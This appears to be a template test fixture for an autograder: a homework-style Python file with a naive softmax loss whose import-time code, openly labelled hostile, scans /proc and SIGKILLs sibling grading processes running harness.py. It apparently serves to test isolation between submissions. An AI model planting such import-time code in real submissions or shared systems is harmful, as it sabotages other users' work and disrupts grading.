"""Hostile: while importing, for @SECONDS@ s, kills every other grading child it can see (a process
with its own parent whose command line names harness.py): the classmates graded beside it."""
import os
import signal
import time

import numpy as np


def _kill_siblings(seconds):
    me, parent, end = os.getpid(), os.getppid(), time.time() + seconds
    while time.time() < end:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) == me:
                continue
            try:
                with open(f"/proc/{name}/stat") as f:
                    ppid = int(f.read().rsplit(")", 1)[1].split()[1])
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    cmdline = f.read()
                if ppid == parent and b"harness.py" in cmdline:
                    os.kill(int(name), signal.SIGKILL)
            except (OSError, ValueError, IndexError):
                pass
        time.sleep(0.02)


_kill_siblings(@SECONDS@)


def softmax_loss_naive(W, X, y, reg):
    n = X.shape[0]
    loss, dW = 0.0, np.zeros_like(W)
    for i in range(n):
        s = X[i] @ W
        p = np.exp(s - s.max())
        p /= p.sum()
        loss -= np.log(p[y[i]])
        p[y[i]] -= 1
        dW += np.outer(X[i], p)
    return loss / n + reg * np.sum(W * W), dW / n + 2 * reg * W
